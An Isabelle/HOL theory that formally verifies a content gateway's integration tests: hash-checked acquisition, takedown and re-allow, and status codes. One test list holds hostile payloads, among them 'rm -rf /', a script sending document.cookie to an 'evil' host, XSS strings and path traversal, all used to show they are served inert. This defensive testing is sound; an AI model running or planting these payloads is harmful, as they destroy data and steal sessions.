(* ===== verification/Repo_Gateway_Tests.thy ===== *)
theory Repo_Gateway_Tests
  imports Repo_Tests Gateway_Spec Acquire
begin

text \<open>
  The integration tests of tests/integration.rs, translated assertion by assertion: the real gateway on a store, and
  \<open>acquire\<close> against a mock origin. The HTTP client and server between test and handler are left out: a request is the
  call of its handler.
\<close>

section \<open>The test bench\<close>

definition GOOD :: bytes where
  "GOOD = str_bytes (''{'' @ [CHR 0x22] @ ''body'' @ [CHR 0x22] @ '':'' @ [CHR 0x22] @ ''gm'' @ [CHR 0x22] @ '','' @ [CHR 0x22]
     @ ''v'' @ [CHR 0x22] @ '':1}'')"

definition test_gw :: "store \<Rightarrow> string option \<Rightarrow> gw_state" where
  "test_gw s token =
     \<lparr>gw_store = s, gw_max_bytes = push_bit 20 1, admin_token = token, conns = 64, gw_peers = Map.empty\<rparr>"

definition test_gw_env :: "bench \<Rightarrow> gw_env" where
  "test_gw_env t = \<lparr>env_io = t_io t, env_read = True\<rparr>"

text \<open>A request, what the test asserts of its reply, and the rest of the test; a panic of the handler fails the test.\<close>

definition send :: "bench \<Rightarrow> gw_state \<Rightarrow> request \<Rightarrow> (reply \<Rightarrow> gw_state \<Rightarrow> bool) \<Rightarrow> bool" where
  "send t g rq P = (case gw_handle (t_crypto t) (test_gw_env t) g rq of (Some r, g') \<Rightarrow> P r g' | (None, g') \<Rightarrow> False)"

definition body_is :: "reply \<Rightarrow> (bytes \<Rightarrow> bool) \<Rightarrow> bool" where
  "body_is r P = (case reply_body r of Content b \<Rightarrow> P b | _ \<Rightarrow> False)"

fun json_field :: "string \<Rightarrow> body \<Rightarrow> json option" where
  "json_field k (JsonBody (JObj fs)) = map_of fs k"
| "json_field k _ = None"

section \<open>The tests\<close>

text \<open>
  The mock origin at \<open>origin\<close>: the right bytes under their hash, wrong bytes under any other, and a big body; hyper
  sends a content length, and the body in some chunks.
\<close>

definition origin_app :: "bench \<Rightarrow> (bytes \<Rightarrow> chunk list) \<Rightarrow> string \<Rightarrow> net" where
  "origin_app t chunked origin k url =
     (let ok = (\<lambda>b. Some \<lparr>status = 200, content_length = Some (len64 b), body_chunks = chunked b\<rparr>)
      in case strip_prefix (origin @ ''/content/'') url of
           Some h \<Rightarrow>
             if trim_start_str ''0x'' h = sha256_hex (t_crypto t) GOOD then ok GOOD else ok (str_bytes ''TAMPERED-DIFFERENT-BYTES'')
         | None \<Rightarrow>
             if url = origin @ ''/big'' then ok (replicate 10000 0)
             else Some \<lparr>status = 404, content_length = Some 0, body_chunks = []\<rparr>)"

definition ab32 :: string where
  "ab32 = concat (replicate 32 ''ab'')"

definition acquire_accepts_only_hash_matching_bytes :: "bench \<Rightarrow> (bytes \<Rightarrow> chunk list) \<Rightarrow> string \<Rightarrow> bool" where
  "acquire_accepts_only_hash_matching_bytes t chunked origin \<longleftrightarrow>
     (let net = origin_app t chunked origin; c = t_crypto t; good_hash = sha256_hex c GOOD in
      acquire c net good_hash [origin @ ''/content/0x'' @ good_hash] (push_bit 20 1) = Inr GOOD \<and>
      ok_bytes (acquire c net ab32 [origin @ ''/content/0x'' @ ab32] (push_bit 20 1)) = None \<and>
      ok_bytes (acquire c net good_hash [origin @ ''/big''] 1024) = None)"

definition gateway_self_certifies_and_handles_errors :: "bench \<Rightarrow> bool" where
  "gateway_self_certifies_and_handles_errors t =
     opened t Map.empty (\<lambda>s.
       let h = sha256_hex (t_crypto t) GOOD
       in put_unwrap t s h GOOD (\<lambda>s.
            let g = test_gw s None in
            send t g (GetContent [] (''0x'' @ h)) (\<lambda>r _.
              reply_status r = 200 \<and> header_get (reply_headers r) ''etag'' = Some (''\"0x'' @ h @ ''\"'') \<and>
              body_is r (\<lambda>b. sha256_hex (t_crypto t) b = h)) \<and>
            send t g (GetContent [] (''0x'' @ replicate 64 (CHR ''0''))) (\<lambda>r _. reply_status r = 404) \<and>
            send t g (GetContent [] ''0xnothex'') (\<lambda>r _. reply_status r = 400) \<and>
            send t g (HeadContent (''0x'' @ h)) (\<lambda>r _. reply_status r = 200) \<and>
            send t g (GetContent [(''range'', ''bytes=0-3'')] (''0x'' @ h)) (\<lambda>r _.
              reply_status r = 206 \<and> body_is r (\<lambda>b. length b = 4)) \<and>
            send t g GetHealth (\<lambda>r _. json_field ''pinned'' (reply_body r) = Some (JNum 1))))"

definition gateway_refuses_to_serve_corrupted_store_bytes :: "bench \<Rightarrow> bool" where
  "gateway_refuses_to_serve_corrupted_store_bytes t =
     opened t Map.empty (\<lambda>s.
       sha256_hex (t_crypto t) GOOD \<noteq> ab32 \<and>
       put_unwrap t s ab32 GOOD (\<lambda>s.
         send t (test_gw s None) (GetContent [] (''0x'' @ ab32)) (\<lambda>r _. reply_status r = 500)))"

definition bearer :: "string \<Rightarrow> header_map" where
  "bearer token = [(''authorization'', ''Bearer '' @ token)]"

definition takedown_api_removes_content_and_blocks_redownload :: "bench \<Rightarrow> bool" where
  "takedown_api_removes_content_and_blocks_redownload t =
     opened t Map.empty (\<lambda>s.
       let h = sha256_hex (t_crypto t) GOOD; get = GetContent [] (''0x'' @ h)
       in put_unwrap t s h GOOD (\<lambda>s.
            send t (test_gw s (Some ''s3cret'')) get (\<lambda>r g. reply_status r = 200 \<and>
            send t g (DeleteContent [] (''0x'' @ h)) (\<lambda>r g. reply_status r = 403 \<and>
            send t g get (\<lambda>r g. reply_status r = 200 \<and>
            send t g (DeleteContent (bearer ''s3cret'') (''0x'' @ h)) (\<lambda>r g. reply_status r = 200 \<and>
            send t g get (\<lambda>r g. reply_status r = 410 \<and>
            send t g (HeadContent (''0x'' @ h)) (\<lambda>r g. reply_status r = 410 \<and>
            store_is_denied (gw_store g) h \<and>
            put_is_err t (gw_store g) h GOOD (\<lambda>s. store_has s h = None \<and>
            send t (g\<lparr>gw_store := s\<rparr>) (PostAllow (bearer ''s3cret'') (''0x'' @ h)) (\<lambda>r g. reply_status r = 200 \<and>
            \<not> store_is_denied (gw_store g) h \<and>
            put_unwrap t (gw_store g) h GOOD (\<lambda>s.
            send t (g\<lparr>gw_store := s\<rparr>) get (\<lambda>r g. reply_status r = 200))))))))))))"

text \<open>
  Hostile content: each payload is stored under its hash, read back, and served as an inert download; then only files
  \<open><64 hex digits>.bin\<close> are in the directory.
\<close>

definition served_inert :: "bench \<Rightarrow> store \<Rightarrow> string \<Rightarrow> bytes \<Rightarrow> bool" where
  "served_inert t s h p =
     (store_get True s h = Some p \<and>
      send t (test_gw s None) (GetContent [] (''0x'' @ h)) (\<lambda>r _.
        reply_status r = 200 \<and>
        header_get (reply_headers r) ''content-type'' = Some ''application/json; charset=utf-8'' \<and>
        header_get (reply_headers r) ''x-content-type-options'' = Some ''nosniff'' \<and>
        header_get (reply_headers r) ''content-disposition'' = Some ''attachment'' \<and>
        (case header_get (reply_headers r) ''content-security-policy'' of
           Some v \<Rightarrow> contains_str v (''default-src '' @ [CHR 0x27] @ ''none'' @ [CHR 0x27]) | None \<Rightarrow> False) \<and>
        body_is r (\<lambda>b. b = p)))"

fun inert_payloads :: "bench \<Rightarrow> store \<Rightarrow> bytes list \<Rightarrow> (store \<Rightarrow> bool) \<Rightarrow> bool" where
  "inert_payloads t s [] P = P s"
| "inert_payloads t s (p # ps) P =
     put_unwrap t s (sha256_hex (t_crypto t) p) p (\<lambda>s.
       served_inert t s (sha256_hex (t_crypto t) p) p \<and> inert_payloads t s ps P)"

definition blob_name :: "string \<Rightarrow> bool" where
  "blob_name n \<longleftrightarrow>
     (case strip_suffix ''.bin'' n of Some stem \<Rightarrow> length stem = 64 \<and> list_all is_ascii_hexdigit stem | None \<Rightarrow> False)"

definition payloads :: "bytes list" where
  "payloads = map str_bytes
     [''#!/bin/sh'' @ [CHR 0x0A] @ ''rm -rf / --no-preserve-root'' @ [CHR 0x0A],
      [CHR 0x7F] @ ''ELF'' @ [CHR 0x02, CHR 0x01, CHR 0x01, CHR 0x00] @ '' malicious binary'',
      ''<html><script>fetch('' @ [CHR 0x27] @ ''//evil/'' @ [CHR 0x27] @ ''+document.cookie)</script></html>'',
      ''<svg xmlns='' @ [CHR 0x27] @ ''http://www.w3.org/2000/svg'' @ [CHR 0x27] @ ''><script>alert(1)</script></svg>'',
      ''../../../../etc/passwd'',
      ''..'' @ [CHR 0x5C] @ ''..'' @ [CHR 0x5C] @ ''windows'' @ [CHR 0x5C] @ ''system32'',
      [CHR 0x1F, CHR 0x8B, CHR 0x08, CHR 0x00] @ '' gzip-bomb-header'',
      ''%s%s%s%n%x  format string'',
      [CHR 0x00, CHR 0x00] @ '' null bytes '' @ [CHR 0x00] @ '' and '' @ [CHR 0x07] @ '' bells '' @ [CHR 0x1B] @ ''[2J'',
      ''{'' @ [CHR 0x22] @ ''a'' @ [CHR 0x22] @ '':{'' @ [CHR 0x22] @ ''a'' @ [CHR 0x22] @ '':{'' @ [CHR 0x22] @ ''a'' @ [CHR 0x22]
        @ '':{'' @ [CHR 0x22] @ ''a'' @ [CHR 0x22] @ '':'' @ [CHR 0x22] @ ''deep'' @ [CHR 0x22] @ ''}}}}'',
      ''javascript:alert(1)'']"

definition adversarial_content_is_inert_opaque_bytes :: "bench \<Rightarrow> bool" where
  "adversarial_content_is_inert_opaque_bytes t =
     opened t Map.empty (\<lambda>s.
       let before = dom (files s)
       in inert_payloads t s payloads (\<lambda>s. \<forall>n \<in> dom (files s) - before. blob_name n))"

section \<open>What the handlers answer\<close>

lemma send_get:
  assumes "gw_norm hash = Some h" and "conns g \<noteq> 0"
  shows "send t g (GetContent hs hash) P =
    P (if h \<in> denied (gw_store g) then text_reply 410 ''content removed by the operator''
       else serve_result (t_crypto t) True (gw_store g) hs h) g"
  using assms by (simp add: send_def get_content_eq test_gw_env_def)

lemma send_bad: "gw_norm hash = None \<Longrightarrow>
    send t g (GetContent hs hash) P = P (text_reply 400 ''want /content/0x<64-hex payload_hash>'') g"
  by (simp add: send_def get_content_eq)

lemma send_head:
  assumes "gw_norm hash = Some h"
  shows "send t g (HeadContent hash) P =
    P (if h \<in> denied (gw_store g) then text_reply 410 ''content removed by the operator''
       else case index (gw_store g) h of
         Some len \<Rightarrow> \<lparr>reply_status = 200, reply_headers = content_header_list h (unat len), reply_body = NoBody\<rparr>
       | None \<Rightarrow> plain 404) g"
  using assms by (simp add: send_def head_content_eq)

lemma test_gw_fields [simp]:
  "gw_store (test_gw s token) = s" "admin_token (test_gw s token) = token" "conns (test_gw s token) = 64"
  by (simp_all add: test_gw_def)

lemma gw_norm_hex: "lower_hex64 h \<Longrightarrow> gw_norm (''0x'' @ h) = Some h"
  by (simp only: gw_norm_eq norm_0x_lower_hex64 lower_hex64_valid if_True)

lemma no_range: "range_of [] = None" "range_of (bearer tok) = None"
  by (simp_all add: range_of_def header_get_def bearer_def)

lemma put_blob_get: "lower_hex64 h \<Longrightarrow> store_get True (put_blob s h b) h = Some b"
  by (simp add: store_get_hex put_blob_def replaced_def fs_read_def)

lemma serve_full:
  assumes "store_get True s h = Some b" and "sha256_hex c b = h" and "range_of hs = None"
  shows "serve_result c True s hs h = full_result h b"
  using assms by (simp add: serve_result_def)

lemma content_headers_get:
  "header_get (content_header_list h n) ''content-type'' = Some ''application/json; charset=utf-8''"
  "header_get (content_header_list h n) ''etag'' = Some (''\"0x'' @ h @ ''\"'')"
  "header_get (content_header_list h n) ''x-content-type-options'' = Some ''nosniff''"
  "header_get (content_header_list h n) ''content-disposition'' = Some ''attachment''"
  "header_get (content_header_list h n) ''content-security-policy''
     = Some (''default-src '' @ [CHR 0x27] @ ''none'' @ [CHR 0x27] @ ''; sandbox'')"
  by (simp_all add: content_header_list_def header_get_def)

lemma ab32_hex: "lower_hex64 ab32"
  by (simp add: ab32_def lower_hex64_def numeral_eq_Suc is_lower_hexdigit_def)

lemma zeros_hex: "lower_hex64 (replicate 64 (CHR ''0''))"
  by (simp add: lower_hex64_def list_all_iff is_lower_hexdigit_def)

lemma nothex: "gw_norm ''0xnothex'' = None"
  by (simp add: gw_norm_def strip_prefix_def to_lowercase_def Let_def)

lemma good_length: "length GOOD = 19"
  by (simp add: GOOD_def str_bytes_def)

lemma first_range: "range_of [(''range'', ''bytes=0-3'')] = Some (Some 0, Some 3)"
  by (simp add: range_of_def header_get_def to_str_def parse_range_def strip_prefix_def parse_u64_def digits_val_def digit_val_def
      is_digit_def Let_def)

section \<open>The tests hold\<close>

lemma gateway_test_1:
  assumes t: "bench_ok t" and ne: "sha256_hex (t_crypto t) GOOD \<noteq> replicate 64 (CHR ''0'')"
  shows "gateway_self_certifies_and_handles_errors t"
proof -
  define h where "h = sha256_hex (t_crypto t) GOOD"
  have hex: "lower_hex64 h" unfolding h_def using t by (rule bench_hex)
  let ?s = "put_blob empty_store h GOOD"
  note s = first_put [of h GOOD] and n = gw_norm_hex [OF hex] and z = gw_norm_hex [OF zeros_hex]
  have get: "store_get True ?s h = Some GOOD" using hex by (rule put_blob_get)
  have none: "store_get True ?s (replicate 64 (CHR ''0'')) = None"
    using ne zeros_hex by (simp add: store_get_hex s(1) flip: h_def)
  have "store_count ?s = 1" by (simp add: store_count_def s(1))
  then have health: "send t (test_gw ?s None) GetHealth (\<lambda>r _. json_field ''pinned'' (reply_body r) = Some (JNum 1))"
    by (simp add: send_def health_def json_reply_def)
  have range: "serve_result (t_crypto t) True ?s [(''range'', ''bytes=0-3'')] h = range_result h GOOD (Some 0, Some 3)"
    using get by (simp add: serve_result_def first_range flip: h_def)
  have "unat (len64 GOOD) = 19" by (simp add: unat_len64 good_length)
  then have part: "reply_status (range_result h GOOD (Some 0, Some 3)) = 206"
    "body_is (range_result h GOOD (Some 0, Some 3)) (\<lambda>b. length b = 4)"
    by (simp_all add: range_result_def body_is_def good_length)
  have full: "serve_result (t_crypto t) True ?s [] h = full_result h GOOD"
    using get by (intro serve_full no_range) (simp_all add: h_def)
  show ?thesis
    unfolding gateway_self_certifies_and_handles_errors_def opened_empty [OF t] Let_def h_def [symmetric]
      first_put_unwrap [OF t hex]
    using health part
    by (simp add: send_get [OF n] send_get [OF z] send_bad [OF nothex] send_head [OF n] s(1,2) range full none
        serve_result_def [of _ _ _ _ "replicate 64 (CHR ''0'')"] full_result_def content_headers_get body_is_def text_reply_def
        del: append.simps flip: h_def)
qed

lemma gateway_test_2:
  assumes t: "bench_ok t" and ne: "sha256_hex (t_crypto t) GOOD \<noteq> ab32"
  shows "gateway_refuses_to_serve_corrupted_store_bytes t"
proof -
  have get: "store_get True (put_blob empty_store ab32 GOOD) ab32 = Some GOOD" using ab32_hex by (rule put_blob_get)
  show ?thesis
    unfolding gateway_refuses_to_serve_corrupted_store_bytes_def opened_empty [OF t] first_put_unwrap [OF t ab32_hex]
    using ne get by (simp add: send_get [OF gw_norm_hex [OF ab32_hex]] first_put serve_result_def text_reply_def del: append.simps)
qed

text \<open>The takedown requests.\<close>

lemma deny_result:
  assumes "bench_ok t" and "lower_hex64 h" and "store_ok s" and "finite (dom (files s))"
  obtains p s' where "store_deny (t_io t) s h = (Inr p, s')" "store_ok s'" "finite (dom (files s'))" "denied s' = insert h (denied s)"
    "index s' = (index s)(h := None)"
proof -
  have "deny_unwrap t s h (\<lambda>p s'. store_ok s' \<and> finite (dom (files s')) \<and> denied s' = insert h (denied s) \<and> index s' = (index s)(h := None))"
    by (rule deny_unwrap_ok [OF assms]) simp
  then show thesis using that by (auto simp: deny_unwrap_def split: prod.splits sum.splits)
qed

lemma allow_result:
  assumes "bench_ok t" and "lower_hex64 h" and "store_ok s" and "finite (dom (files s))" and "h \<in> denied s"
  obtains s' where "store_allow (t_io t) s h = (Inr True, s')" "store_ok s'" "denied s' = denied s - {h}"
proof -
  have "allow_unwrap t s h (\<lambda>p s'. p \<and> store_ok s' \<and> denied s' = denied s - {h})"
    by (rule allow_unwrap_ok [OF assms]) simp
  then show thesis using that by (auto simp: allow_unwrap_def split: prod.splits sum.splits)
qed

lemma bearer_admin: "admin_token g = Some ''s3cret'' \<Longrightarrow> admin_ok g (bearer ''s3cret'')"
  by (simp add: admin_ok_iff presented_def bearer_def header_get_def to_str_def strip_prefix_def)

lemma no_token: "\<not> admin_ok g []"
  by (simp add: admin_ok_iff presented_def header_get_def)

lemma send_delete_refused:
  "\<not> admin_ok g hs \<Longrightarrow> send t g (DeleteContent hs hash) P = P (text_reply 403 ''admin token required'') g"
  by (simp add: send_def deny_content_def)

lemma send_delete:
  assumes "admin_ok g hs" and "gw_norm hash = Some h" and "store_deny (t_io t) (gw_store g) h = (Inr p, s')"
  shows "send t g (DeleteContent hs hash) P =
    P (json_reply (JObj [(''ok'', JBool True), (''denied'', JBool True), (''purged'', JBool p)])) (g\<lparr>gw_store := s'\<rparr>)"
  using assms by (simp add: send_def deny_content_def test_gw_env_def)

lemma send_allow:
  assumes "admin_ok g hs" and "gw_norm hash = Some h" and "store_allow (t_io t) (gw_store g) h = (Inr p, s')"
  shows "send t g (PostAllow hs hash) P =
    P (json_reply (JObj [(''ok'', JBool True), (''removed'', JBool p)])) (g\<lparr>gw_store := s'\<rparr>)"
  using assms by (simp add: send_def allow_content_def test_gw_env_def)

lemma deny_allow_max: "max_bytes (snd (store_deny i s hash)) = max_bytes s" "max_bytes (snd (store_allow i s hash)) = max_bytes s"
  by (auto simp: store_deny_def store_allow_def store_purge_eq Let_def split: prod.split sum.split)

lemma gateway_test_3:
  assumes t: "bench_ok t"
  shows "takedown_api_removes_content_and_blocks_redownload t"
proof -
  define h where "h = sha256_hex (t_crypto t) GOOD"
  have hex: "lower_hex64 h" unfolding h_def using t by (rule bench_hex)
  then have n: "gw_norm (''0x'' @ h) = Some h" "norm h = h" by (rule gw_norm_hex, rule norm_lower_hex64)
  let ?s = "put_blob empty_store h GOOD"
  define g where "g = test_gw ?s (Some ''s3cret'')"
  note s = first_put [of h GOOD]
  have ok: "store_ok ?s" "finite (dom (files ?s))" using hex first_put_ok by (auto simp: s(5))
  obtain p s1 where s1: "store_deny (t_io t) ?s h = (Inr p, s1)" "store_ok s1" "finite (dom (files s1))" "denied s1 = insert h (denied ?s)"
    "index s1 = (index ?s)(h := None)"
    using deny_result [OF t hex ok] by metis
  obtain s2 where s2: "store_allow (t_io t) s1 h = (Inr True, s2)" "store_ok s2" "denied s2 = denied s1 - {h}"
    using allow_result [OF t hex s1(2,3)] s1(4) by blast
  have max: "max_bytes s2 = 0" using deny_allow_max [of "t_io t"] s1(1) s2(1) s(6) by (metis snd_conv)
  have "put_unwrap t s2 h GOOD P = P (put_blob s2 h GOOD)" for P
    using s2(3) max by (intro put_unwrap_ok [OF t _ _ hex]) (simp_all add: within_budget_def)
  moreover have serve: "serve_result (t_crypto t) True (put_blob u h GOOD) [] h = full_result h GOOD" for u
    using put_blob_get [OF hex] by (intro serve_full no_range) (simp_all add: h_def)
  moreover have "put_is_err t s1 h GOOD P \<longleftrightarrow> P s1" for P
    using put_denied_err [of h s1] s1(4) n(2) by auto
  moreover have "admin_ok g (bearer ''s3cret'')" "admin_ok (g\<lparr>gw_store := s1\<rparr>) (bearer ''s3cret'')"
    by (rule bearer_admin, simp add: g_def)+
  moreover have "conns g = 64" "gw_store g = ?s" by (simp_all add: g_def)
  moreover have "denied (put_blob s2 h GOOD) = {}" using s1(4) s2(3) s(2) by (simp add: put_blob_def)
  moreover have "store_has s1 h = None" using s1(5) n(2) by (simp add: store_has_def)
  ultimately show ?thesis
    unfolding takedown_api_removes_content_and_blocks_redownload_def opened_empty [OF t] Let_def h_def [symmetric]
      first_put_unwrap [OF t hex] g_def [symmetric]
    using s1 s2 s
    by (simp add: send_get [OF n(1)] send_head [OF n(1)] send_delete_refused no_token send_delete [OF _ n(1)] send_allow [OF _ n(1)]
        full_result_def text_reply_def json_reply_def store_is_denied_def n(2) del: append.simps)
qed

section \<open>Hostile content and the mock origin\<close>

lemma inert_one:
  assumes t: "bench_ok t" and hex: "lower_hex64 h" and p: "sha256_hex (t_crypto t) p = h" and d: "h \<notin> denied s"
  shows "served_inert t (put_blob s h p) h p"
proof -
  have get: "store_get True (put_blob s h p) h = Some p" using hex by (rule put_blob_get)
  then have serve: "serve_result (t_crypto t) True (put_blob s h p) [] h = full_result h p"
    using p by (intro serve_full no_range)
  have "contains_str (''default-src '' @ [CHR 0x27] @ ''none'' @ [CHR 0x27] @ ''; sandbox'') (''default-src '' @ [CHR 0x27] @ ''none'' @ [CHR 0x27])"
    unfolding contains_str_iff by (rule exI [of _ "[]"]) simp
  moreover have "denied (put_blob s h p) = denied s" by (simp add: put_blob_def)
  ultimately show ?thesis
    using get d unfolding served_inert_def
    by (simp add: send_get [OF gw_norm_hex [OF hex]] serve full_result_def content_headers_get body_is_def del: append.simps contains_str.simps)
qed

lemma inert_payloads_hold:
  assumes t: "bench_ok t"
  shows "denied s = {} \<Longrightarrow> max_bytes s = 0 \<Longrightarrow> (\<forall>n \<in> dom (files s). blob_name n) \<Longrightarrow>
    inert_payloads t s ps (\<lambda>s. \<forall>n \<in> dom (files s) - {}. blob_name n)"
proof (induction ps arbitrary: s)
  case (Cons p ps)
  define h where "h = sha256_hex (t_crypto t) p"
  have hex: "lower_hex64 h" unfolding h_def using t by (rule bench_hex)
  have put: "put_unwrap t s h p P = P (put_blob s h p)" for P
    using Cons.prems(1,2) by (intro put_unwrap_ok [OF t _ _ hex]) (simp_all add: within_budget_def)
  have "list_all is_ascii_hexdigit h" "length h = 64"
    using hex by (auto simp: lower_hex64_def list_all_iff lower_hexdigit_is_hexdigit)
  then have "blob_name (blob_path h)" by (simp add: blob_name_def blob_path_def strip_suffix_append)
  then have "\<forall>n \<in> dom (files (put_blob s h p)). blob_name n"
    using Cons.prems(3) by (auto simp: put_blob_def replaced_def split: if_splits)
  then have "inert_payloads t (put_blob s h p) ps (\<lambda>s. \<forall>n \<in> dom (files s) - {}. blob_name n)"
    using Cons.prems by (intro Cons.IH) (simp_all add: put_blob_def)
  moreover have "served_inert t (put_blob s h p) h p" using Cons.prems(1) by (intro inert_one [OF t hex]) (simp_all add: h_def)
  ultimately show ?case by (simp add: put flip: h_def)
qed simp

lemma gateway_test_4: "bench_ok t \<Longrightarrow> adversarial_content_is_inert_opaque_bytes t"
  using inert_payloads_hold [of t empty_store payloads]
  by (simp add: adversarial_content_is_inert_opaque_bytes_def opened_empty) (simp add: empty_store_def)

lemma origin_answers:
  assumes t: "bench_ok t" and hex: "lower_hex64 h"
  shows "origin_app t chunked origin k (origin @ ''/content/0x'' @ h) =
    (let b = if h = sha256_hex (t_crypto t) GOOD then GOOD else str_bytes ''TAMPERED-DIFFERENT-BYTES''
     in Some \<lparr>status = 200, content_length = Some (len64 b), body_chunks = chunked b\<rparr>)"
    and "origin_app t chunked origin k (origin @ ''/big'') =
      Some \<lparr>status = 200, content_length = Some (len64 (replicate 10000 0)), body_chunks = chunked (replicate 10000 0)\<rparr>"
proof -
  have "strip_prefix (origin @ ''/content/'') (origin @ ''/content/0x'' @ h) = Some (''0x'' @ h)"
    by (simp add: strip_prefix_Some_iff)
  moreover have "trim_start_str ''0x'' (''0x'' @ h) = h"
  proof -
    have "\<not> starts_with h ''0x''" using hex by (auto simp: starts_with_iff lower_hex64_def is_lower_hexdigit_def)
    then show ?thesis
      using trim_start_str.simps [of "''0x''" "''0x'' @ h"] by (simp add: starts_with_def trim_start_str_stop)
  qed
  ultimately show "origin_app t chunked origin k (origin @ ''/content/0x'' @ h) =
    (let b = if h = sha256_hex (t_crypto t) GOOD then GOOD else str_bytes ''TAMPERED-DIFFERENT-BYTES''
     in Some \<lparr>status = 200, content_length = Some (len64 b), body_chunks = chunked b\<rparr>)"
    by (simp add: origin_app_def Let_def del: append.simps)
  have "strip_prefix (origin @ ''/content/'') (origin @ ''/big'') = None" by (simp add: strip_prefix_def)
  then show "origin_app t chunked origin k (origin @ ''/big'') =
      Some \<lparr>status = 200, content_length = Some (len64 (replicate 10000 0)), body_chunks = chunked (replicate 10000 0)\<rparr>"
    by (simp add: origin_app_def Let_def)
qed

lemma gateway_test_5:
  assumes t: "bench_ok t" and ch: "\<And>b. sent_body (chunked b) = Some b" and ne: "sha256_hex (t_crypto t) GOOD \<noteq> ab32"
    "sha256_hex (t_crypto t) (str_bytes ''TAMPERED-DIFFERENT-BYTES'') \<noteq> ab32"
  shows "acquire_accepts_only_hash_matching_bytes t chunked origin"
proof -
  define h where "h = sha256_hex (t_crypto t) GOOD"
  define net where "net = origin_app t chunked origin"
  have hex: "lower_hex64 h" unfolding h_def using t by (rule bench_hex)
  note at = origin_answers(1) [OF t hex, of chunked origin, folded net_def, folded h_def]
    origin_answers(1) [OF t ab32_hex, of chunked origin, folded net_def, folded h_def]
    origin_answers(2) [OF t ab32_hex, of chunked origin, folded net_def]
  have cap: "unat (push_bit 20 1 :: usize) = 1048576" "unat (1024 :: usize) = 1024" by simp_all
  have len: "length (str_bytes ''TAMPERED-DIFFERENT-BYTES'') = 24" by (simp add: str_bytes_def)
  have le: "len64 GOOD \<le> push_bit 20 1" by (simp add: word_le_nat_alt unat_len64 good_length)
  have big: "\<not> len64 (replicate 10000 0) \<le> (1024 :: usize)" by (simp add: word_le_nat_alt unat_len64)
  have "acquire (t_crypto t) net h [origin @ ''/content/0x'' @ h] (push_bit 20 1) = Inr GOOD"
    using le by (simp add: acquire_Inr_iff verifies_def fetch_capped_Inr_iff at ch norm_lower_hex64 [OF hex] is_success_def
        good_length Let_def del: append.simps flip: h_def)
  moreover have "acquire (t_crypto t) net ab32 [origin @ ''/content/0x'' @ ab32] (push_bit 20 1) \<noteq> Inr b" for b
    using ne by (auto simp: acquire_Inr_iff verifies_def fetch_capped_Inr_iff at ch norm_lower_hex64 [OF ab32_hex] Let_def h_def
        simp del: append.simps)
  moreover have "acquire (t_crypto t) net h [origin @ ''/big''] 1024 \<noteq> Inr b" for b
    using big by (auto simp: acquire_Inr_iff verifies_def fetch_capped_Inr_iff at simp del: append.simps)
  moreover have "ok_bytes r = None \<longleftrightarrow> (\<forall>b. r \<noteq> Inr b)" for r :: "acquire_error + bytes"
    by (cases r) simp_all
  ultimately show ?thesis
    unfolding acquire_accepts_only_hash_matching_bytes_def Let_def net_def [symmetric] h_def [symmetric] by blast
qed

text \<open>
  C35: the integration tests of the gateway hold of the model: for every digest that tells the tests' inputs and literal
  hashes apart, every clean directory listing and order of hash iteration, and every way the origin's bodies are split
  into chunks, when no file call fails. Only verified bytes are acquired; the gateway answers 200, 206, 400, 403, 404, 410
  and 500 as asserted; a takedown removes, blocks the download and can be lifted; hostile content is stored under its hash
  only and served as an inert download.
\<close>

theorem integration_tests_hold:
  assumes "bench_ok t" and "\<forall>b. sent_body (chunked b) = Some b"
    and "sha256_hex (t_crypto t) GOOD \<notin> {ab32, replicate 64 (CHR ''0'')}"
    and "sha256_hex (t_crypto t) (str_bytes ''TAMPERED-DIFFERENT-BYTES'') \<noteq> ab32"
  shows "acquire_accepts_only_hash_matching_bytes t chunked origin \<and> gateway_self_certifies_and_handles_errors t \<and>
    gateway_refuses_to_serve_corrupted_store_bytes t \<and> takedown_api_removes_content_and_blocks_redownload t \<and>
    adversarial_content_is_inert_opaque_bytes t"
  using assms gateway_test_1 gateway_test_2 gateway_test_3 gateway_test_4 gateway_test_5 by simp

lemma demo_sha_last: "last (sha256_hex demo_crypto b) = hex_digit (of_nat (length b) mod 16)"
  by (cases b) (simp_all add: sha256_hex_def demo_crypto_def replicate_numeral_eq demo_sha_ends)

theorem integration_tests_hold_witness:
  "takedown_api_removes_content_and_blocks_redownload demo_bench \<and>
   acquire_accepts_only_hash_matching_bytes demo_bench (\<lambda>b. [Chunk b]) ''http://127.0.0.1:40000''"
proof -
  have c: "t_crypto demo_bench = demo_crypto" by (simp add: demo_bench_def)
  have ab: "last ab32 = CHR ''b''" by (simp add: ab32_def numeral_eq_Suc)
  have "last (sha256_hex demo_crypto GOOD) = CHR ''3''"
    unfolding demo_sha_last good_length by (simp add: hex_digit_def) code_simp
  then have "sha256_hex demo_crypto GOOD \<notin> {ab32, replicate 64 (CHR ''0'')}" using ab by auto
  moreover have "length (str_bytes ''TAMPERED-DIFFERENT-BYTES'') = 24" by (simp add: str_bytes_def)
  then have "last (sha256_hex demo_crypto (str_bytes ''TAMPERED-DIFFERENT-BYTES'')) = CHR ''8''"
    unfolding demo_sha_last by (simp add: hex_digit_def) code_simp
  then have "sha256_hex demo_crypto (str_bytes ''TAMPERED-DIFFERENT-BYTES'') \<noteq> ab32" using ab by auto
  moreover have "\<forall>b. sent_body [Chunk b] = Some b" by simp
  ultimately show ?thesis 
    using integration_tests_hold [OF demo_bench_ok, of "\<lambda>b. [Chunk b]" "''http://127.0.0.1:40000''"] unfolding c by blast
qed

end
